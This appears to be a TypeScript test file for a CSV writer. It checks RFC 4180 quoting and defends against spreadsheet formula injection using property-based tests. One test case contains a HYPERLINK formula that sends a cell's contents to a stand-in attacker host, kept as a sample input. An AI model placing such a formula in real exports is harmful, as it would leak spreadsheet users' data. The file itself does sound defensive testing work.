import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../domain/shared/csv.ts';

/** What a spreadsheet reads as the start of a formula (OWASP's list). */
const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

/** The text a field stood for: one leading apostrophe, when there is one, is the writer's and is dropped. */
const recovered = (parsedField: string) => (parsedField.startsWith("'") ? parsedField.slice(1) : parsedField);

describe('CSV (RFC 4180)', () => {
  it('quotes only the fields that need it and ends every record with CRLF', () => {
    expect(
      toCsv([
        ['Name', 'Note', 'Amount'],
        ['Rahim, Jr.', 'said "hi"', 12000],
        ['Nadia', 'two\nlines', 0],
      ]),
    ).toBe('Name,Note,Amount\r\n"Rahim, Jr.","said ""hi""",12000\r\nNadia,"two\nlines",0\r\n');
  });

  it('round-trips any text through a standard reading of the format', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        (records) => {
          expect(parseCsv(toCsv(records)).map((r) => r.map(recovered))).toEqual(records);
        },
      ),
    );
  });
});

describe('CSV formula injection', () => {
  it('writes a name that is a formula as text, with a leading apostrophe', () => {
    const name = '=HYPERLINK("http://evil.test/?x="&A1,"Pay here")';
    expect(toCsv([[name, 'eve@test.lakeview', 12000]])).toBe(
      `"'=HYPERLINK(""http://evil.test/?x=""&A1,""Pay here"")",eve@test.lakeview,12000\r\n`,
    );
    expect(parseCsv(toCsv([[name]]))).toEqual([[`'${name}`]]);
  });

  it('neutralises every formula trigger, and an apostrophe already there, at the start of text only', () => {
    expect(toCsv([['=1+1', '+1', '-1', '@SUM(A1)', '\tx', "'quoted", 'a=b', 'x-1']])).toBe(
      `'=1+1,'+1,'-1,'@SUM(A1),'\tx,''quoted,a=b,x-1\r\n`,
    );
    expect(toCsv([['\r=1']])).toBe(`"'\r=1"\r\n`);
  });

  it('leaves numbers as numbers, negative ones included, so a spreadsheet can sum them', () => {
    expect(toCsv([[-1500, 0, 12000.5, -0.25]])).toBe('-1500,0,12000.5,-0.25\r\n');
  });

  it('never lets a field start a formula, and gives back the text and the numbers written', () => {
    const trigger = fc.constantFrom(...FORMULA_TRIGGERS, "'");
    const name = fc.oneof(
      fc.string(),
      fc.tuple(trigger, fc.string()).map(([t, rest]) => t + rest),
      fc.string({ unit: fc.constantFrom(...FORMULA_TRIGGERS, "'", '"', ',', '\n', 'a') }),
    );
    const amount = fc.oneof(
      fc.integer({ min: -1_000_000, max: 1_000_000 }),
      fc.double({ min: -1e6, max: 1e6, noNaN: true }),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(name, name, amount), { minLength: 1, maxLength: 6 }), (rows) => {
        const parsed = parseCsv(toCsv(rows));
        expect(parsed).toHaveLength(rows.length);
        parsed.forEach((fields, i) => {
          const [first, second, money] = rows[i]!;
          for (const text of fields.slice(0, 2)) {
            expect(FORMULA_TRIGGERS.some((t) => text.startsWith(t))).toBe(false);
          }
          expect(fields.slice(0, 2).map(recovered)).toEqual([first, second]);
          expect(fields[2]).toBe(String(money));
          expect(Number(fields[2])).toBe(money === 0 ? 0 : money);
        });
      }),
    );
  });
});

/** A small reader written from the RFC, to check the writer against. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return records;
}
